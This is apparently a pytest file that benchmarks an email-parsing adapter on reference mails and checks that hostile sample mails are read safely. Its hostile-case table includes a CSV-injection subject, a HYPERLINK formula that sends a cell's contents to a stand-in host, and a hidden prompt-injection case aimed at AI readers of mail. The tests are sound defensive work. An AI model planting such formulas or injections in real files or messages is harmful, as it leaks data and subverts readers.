"""The reader measured on reference mails that lie beside the checkout, with the scores printed (`pytest -s`)."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from bench import mail as bench
from makegood.adapters.email.reading.parsed import ParsedMail, Unreadable
from makegood.adapters.email.reading.read import attempt


@pytest.fixture
def data(bench_data: Path) -> Path:
    """The reference data; the test is skipped where they are not at hand."""
    if not (bench_data / "mails").is_dir():
        pytest.skip("the reference mails are not at hand (MAKEGOOD_BENCH_DATA)")
    return bench_data


@pytest.mark.parametrize("part", bench.PARTS)
@pytest.mark.parametrize("name", bench.SETS)
def test_every_mail_of_a_set_is_right(data: Path, name: str, part: str) -> None:
    score = bench.SETS[name](data, part)
    if not score.total and part == "unseen":
        pytest.skip(f"there is no unseen part of the {name}")
    print(f"\n{name}, {part}: {score.total - len(score.wrong)} of {score.total}")  # noqa: T201 - the score is the point
    assert score.total > 0
    if part == "public":
        assert score.wrong == {}
    else:  # nobody has seen them: nearly all
        assert len(score.wrong) <= score.total * 0.05, score.wrong


HOSTILE: dict[str, Callable[[ParsedMail], bool]] = {
    "address-parser-confusion": lambda m: m.sender_ambiguous,
    "attachment-path-traversal": lambda m: len(m.attachments) == 11,
    "boundary-tricks": lambda m: [a.name for a in m.attachments] == ["notes.txt"],
    "csv-injection-subject": lambda m: (
        m.subject == '=HYPERLINK("http://canary.test/?x="&A1,"refund")'
    ),
    "display-name-spoof": lambda m: m.sender_ambiguous,
    "html-attachments-lying-types": lambda m: len(m.attachments) == 9,
    "null-bytes-and-broken-utf8": lambda m: (
        not re.search("[\x00\x1b]", m.text + m.subject) and len(m.attachments) == 1
    ),
    "prompt-injection-en-hidden": lambda m: "CANARY-REFUND-77" not in m.text,
    "two-content-types": lambda m: m.html == "",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_mails_are_read_for_what_they_are(data: Path, name: str) -> None:
    got = attempt((data / "mails/public" / f"hostile-{name}.eml").read_bytes(), ours=bench.OURS)
    assert isinstance(got, ParsedMail)
    assert HOSTILE[name](got)


def test_oversized_mails_are_refused_with_a_reason(data: Path) -> None:
    recipes = bench.load(data / "mails" / "make_large.py").RECIPES
    for recipe in recipes.values():
        assert isinstance(attempt(recipe().encode("ascii")), Unreadable)
